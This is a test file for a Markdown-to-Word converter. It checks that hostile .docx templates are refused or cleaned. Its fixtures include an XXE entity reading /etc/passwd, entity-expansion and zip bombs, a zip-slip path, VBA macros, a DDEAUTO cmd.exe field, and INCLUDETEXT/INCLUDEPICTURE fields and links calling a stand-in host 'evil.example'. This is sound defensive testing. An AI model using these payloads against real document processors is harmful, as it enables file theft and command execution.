import { type ConversionOptions, convert } from '@footmark/engine';
import { strToU8, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { convertForTest } from '../conversion';
import { openPackage, relationshipsOf } from '../docx/package';
import { PIXEL } from '../pixel';
import { field, NAMESPACES, NORMAL, p, picture, relationships, template } from './build';

/** The message with which a template is refused. */
async function refusal(bytes: Uint8Array): Promise<string> {
  const result = await convert('Text.', { template: bytes });
  if (result.success) throw new Error('Not refused');
  expect(result.validation.errors.map(({ code }) => code)).toEqual(['template-refused']);
  return result.error;
}

/** An archive in which a file takes another's name, which must have the same length. */
function renamed(bytes: Uint8Array, from: string, to: string): Uint8Array {
  const changed = bytes.slice();
  const [wanted, name] = [strToU8(from), strToU8(to)];
  for (const at of changed.keys())
    if (wanted.every((byte, index) => changed[at + index] === byte)) changed.set(name, at);
  return changed;
}

const OLE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const utf16 = (text: string): number[] => [...text].flatMap((letter) => [letter.charCodeAt(0), 0]);

test.each<[string, Uint8Array, RegExp]>([
  ['an empty file', new Uint8Array(), /empty file/],
  ['an old .doc', Uint8Array.from([...OLE, ...utf16('WordDocument')]), /old Word document \(\.doc\)/],
  [
    'an encrypted .docx',
    Uint8Array.from([...OLE, ...utf16('EncryptedPackage')]),
    /protected with a password/,
  ],
  ['an RTF file', strToU8('{\\rtf1 Hello}'), /RTF file/],
  ['a text', strToU8('# Heading'), /not a Word document. Save it as .docx/],
  ['zeros', new Uint8Array(5000), /not a Word document. Save it as .docx/],
  ['a PDF file', strToU8('%PDF-1.7\n'), /PDF file. Use the Word file/],
  ['a web page', strToU8('\ufeff<!DOCTYPE html><html></html>'), /web page. Open it in Word and save it/],
  [
    'an OpenDocument file',
    zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }] }),
    /OpenDocument file. Open it in LibreOffice or Word and save it/,
  ],
  ['a zip of something else', zipSync({ 'a.txt': strToU8('a') }), /not a Word document/],
  ['half a file', template().subarray(0, 900), /cannot be read: .*incomplete\. Copy or download it again\.$/],
  [
    'the first bytes of a file',
    template().subarray(0, 10),
    /too short for a zip file\. Copy or download it again\.$/,
  ],
  ['a file with other bytes in it', template().fill(0, 40, 400), /damaged\. Copy or download it again\.$/],
  [
    'a workbook',
    template({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
    /not a Word document/,
  ],
  [
    'entities that unfold without end',
    template({
      files: {
        'word/styles.xml': `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><w:styles ${NAMESPACES}>&b;</w:styles>`,
      },
    }),
    /declares a document type/,
  ],
  [
    'an entity that reads a file',
    template({
      files: {
        'word/document.xml': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${NAMESPACES}>&x;</w:document>`,
      },
    }),
    /declares a document type/,
  ],
  ['broken XML', template({ body: '<w:p><w:r></w:p>' }), /document\.xml is not well-formed/],
  ['an undeclared prefix', template({ body: '<q:p/>' }), /not well-formed/],
  [
    'elements nested without end',
    template({ body: '<w:p>'.repeat(2000) + '</w:p>'.repeat(2000) }),
    /nested too deeply/,
  ],
  [
    'two files of one name, of which programs read different ones',
    renamed(template({ files: { 'word/stylez.xml': '<a/>' } }), 'word/stylez.xml', 'word/styles.xml'),
    /damaged: it contains several files named word\/styles\.xml/,
  ],
  [
    'two names that differ only in case',
    template({ files: { 'word/Styles.xml': '<a/>' } }),
    /damaged: it contains several files named word\/styles\.xml/,
  ],
  [
    'a file that would be unpacked elsewhere',
    template({ files: { '../../.profile': 'evil' } }),
    /would be unpacked outside it, \.\.\/\.\.\/\.profile\. Open it in Word and save it again\.$/,
  ],
  ['a bomb', template({ files: { 'word/styles.xml': new Uint8Array(200 * 1024 ** 2) } }), /too large/],
])('%s is refused in plain words', async (_, bytes, message) => {
  expect(await refusal(bytes)).toMatch(message);
});

/** Everything in the written package, as one text. */
async function written(bytes: Uint8Array, markdown = 'Text.', options: ConversionOptions = {}) {
  const conversion = await convertForTest(
    markdown,
    { ...options, template: bytes },
    expect.getState().currentTestName,
  );
  const file = openPackage(conversion.bytes);
  return {
    file,
    all: [...file.parts.values()].map(({ name, text }) => `${name}\n${text}`).join('\n'),
    notices: conversion.notices
      .filter(({ code }) => code.startsWith('template'))
      .map(({ message }) => message),
  };
}

test('names of styles and fonts cannot end the attributes that contain them', async () => {
  const odd = 'A&quot; x=&quot;&amp;&lt;';
  const fonts = `<w:rPr><w:rFonts w:ascii="${odd}" w:hAnsi="${odd}"/></w:rPr>`;
  const styles = `<w:style w:type="paragraph" w:default="1" w:styleId="N${odd}"><w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="B${odd}"><w:name w:val="Body Text"/>${fonts}</w:style><w:style w:type="character" w:styleId="C${odd}"><w:name w:val="Odd"/></w:style>`;
  const { all } = await written(
    template({ styles }),
    '# One\n\nText with [words]{custom-style="Odd"}.\n\n> [!NOTE]\n> Called.\n\n::: {custom-style="Normal"}\nMore.\n:::\n',
  );
  expect(all).toContain(`<w:pStyle w:val="B${odd}"/>`);
  expect(all).toContain(`<w:rStyle w:val="C${odd}"/>`);
  expect(all).toContain(`w:ascii="${odd}"`);
  expect(all).not.toMatch(/"[A-Z]?A" x=/);
});

test('macros are left out', async () => {
  const { all, notices } = await written(
    template({
      mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      links: [['m', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin']],
      files: { 'word/vbaProject.bin': 'Sub AutoOpen' },
    }),
  );
  expect(all).not.toMatch(/vba|macroEnabled/i);
  expect(notices).toEqual(['Left out of the Word template: macros']);
});

test('nothing that Word would load from elsewhere is carried over', async () => {
  const address = 'http://evil.example/x';
  const { file, all, notices } = await written(
    template({
      body: `${p('{{content}}')}<w:p>${picture('ext').replace('r:embed', 'r:link')}</w:p><w:p><w:r><w:pict><v:shape href="${address}"><v:imagedata r:id="ext" src="${address}"/></v:shape></w:pict></w:r></w:p><w:altChunk r:id="chunk"/><w:p><w:subDoc r:id="sub"/></w:p><w:p><w:hyperlink r:id="js"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p><w:p><w:hyperlink r:id="ok"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`,
      links: [
        ['ext', 'image', address, 'External'],
        ['chunk', 'aFChunk', 'chunk.html'],
        ['sub', 'subDocument', `${address}.docx`, 'External'],
        ['js', 'hyperlink', 'file://evil.example/share', 'External'],
        ['ok', 'hyperlink', 'https://university.example/', 'External'],
      ],
      files: { 'word/chunk.html': '<script>1</script>' },
      settings: '<w:attachedTemplate r:id="t"/>',
      settingsLinks: [['t', 'attachedTemplate', `${address}.dotm`, 'External']],
    }),
  );
  expect(all).not.toMatch(/evil|altChunk|subDoc|attachedTemplate|script/);
  expect(all).toContain('click');
  expect(relationshipsOf(file, 'word/document.xml').filter(({ external }) => external)).toEqual([
    expect.objectContaining({ target: 'https://university.example/' }),
  ]);
  expect(notices).toEqual([
    'Left out of the Word template: the connection to the template that it is based on',
    'Left out of the Word template: links to other files or addresses that Word would load',
  ]);
});

test.each([
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  'INCLUDETEXT "http://evil.example/x.docx"',
  'INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png"',
  'MACROBUTTON AutoOpen click',
  'MERGEFIELD Name',
  'LINK Excel.Sheet.8 "evil"',
])('the field %s becomes its text, also when it is split and nested', async (code) => {
  const half = Math.floor(code.length / 2);
  const split = `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.slice(0, half)}</w:instrText></w:r><w:r><w:instrText>${code.slice(half)}</w:instrText></w:r>`;
  const rest =
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>SHOWN</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
  const { all, notices } = await written(
    template({
      body: `${p('{{content}}')}<w:p>${field('PAGE', '1')}${split}${rest}</w:p><w:p><w:fldSimple w:instr='${code.replaceAll('"', '&quot;')}'><w:r><w:t>SIMPLE</w:t></w:r></w:fldSimple></w:p>`,
    }),
  );
  expect(all).not.toMatch(/DDEAUTO|INCLUDE|MACROBUTTON|MERGEFIELD|LINK /);
  expect(all).toContain('SHOWN');
  expect(all).toContain('SIMPLE');
  expect(all).toContain(' PAGE ');
  expect(notices).toHaveLength(1);
});

test('a field that never ends does not swallow the text', async () => {
  const { all } = await written(
    template({
      body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:t>Cover</w:t></w:r></w:p>${p('{{content}}')}`,
    }),
  );
  expect(all).not.toContain('fldChar');
});

test('protection, mail merge, comments, revisions and building blocks are left out', async () => {
  const { all, notices } = await written(
    template({
      body: `<w:p><w:commentRangeStart w:id="1"/><w:ins w:id="2" w:author="A"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:id="3" w:author="A"><w:r><w:delText>old</w:delText></w:r></w:del><w:commentRangeEnd w:id="1"/></w:p>${p('{{content}}')}`,
      settings:
        '<w:mailMerge><w:query w:val="SELECT * FROM secret"/></w:mailMerge><w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>',
      links: [['g', 'glossaryDocument', 'glossary/document.xml']],
      files: { 'word/glossary/document.xml': '<a/>' },
    }),
  );
  expect(all).not.toMatch(
    /secret|documentProtection|docVar (?!w:name="FootmarkTemplate")|glossary|comment|w:ins|delText/,
  );
  expect(all).toContain('new');
  expect(notices).toHaveLength(5);
});

test('a target cannot lead out of the package, and embedded objects are left out', async () => {
  const { all } = await written(
    template({
      body: `${p('{{content}}')}<w:p>${picture('out')}</w:p><w:p><w:r><w:object><w:control r:id="ole"/></w:object></w:r></w:p><w:p>${picture('exe')}</w:p>`,
      links: [
        ['out', 'image', '../../../../etc/passwd'],
        ['ole', 'oleObject', 'embeddings/x.bin'],
        ['exe', 'image', 'media/x.png'],
      ],
      files: { 'word/embeddings/x.bin': 'MZ', 'word/media/x.png': 'MZ not a picture' },
    }),
  );
  expect(all).not.toMatch(/passwd|embeddings|w:object|media\//);
});

test('a circular style map and styles with the same id do no harm', async () => {
  const looped = (id: string, base: string): string =>
    `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${base}"/></w:style>`;
  const { all } = await written(
    template({
      styles: NORMAL + looped('a', 'b') + looped('b', 'a') + looped('a', 'a'),
      body: `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>Long enough to be the body.</w:t></w:r></w:p>`,
    }),
  );
  expect(all.match(/w:styleId="a"/g)).toHaveLength(1);
});

test('a style is based on a hundred others at most, since what follows longer chains would never end', async () => {
  const styles = Array.from(
    { length: 200 },
    (_, at) =>
      `<w:style w:type="paragraph" w:styleId="s${at}"><w:name w:val="s${at}"/>${at > 0 ? `<w:basedOn w:val="s${at - 1}"/>` : ''}</w:style>`,
  );
  const { all } = await written(template({ styles: NORMAL + styles.join('') }));
  expect(all).toContain('<w:basedOn w:val="s99"/>');
  expect(all).not.toContain('<w:basedOn w:val="s198"/>');
});

test('a picture under two spellings of its name is stored once', async () => {
  const { file } = await written(
    template({
      body: `<w:p>${picture('one')}${picture('two')}</w:p>${p('{{content}}')}`,
      links: [
        ['one', 'image', 'media/a.png'],
        ['two', 'image', '/word/media/A.PNG'],
      ],
      files: { 'word/media/a.png': PIXEL, 'word/_rels/unused.xml.rels': relationships([]) },
    }),
  );
  expect([...file.parts.keys()].filter((name) => name.includes('media/'))).toHaveLength(1);
});
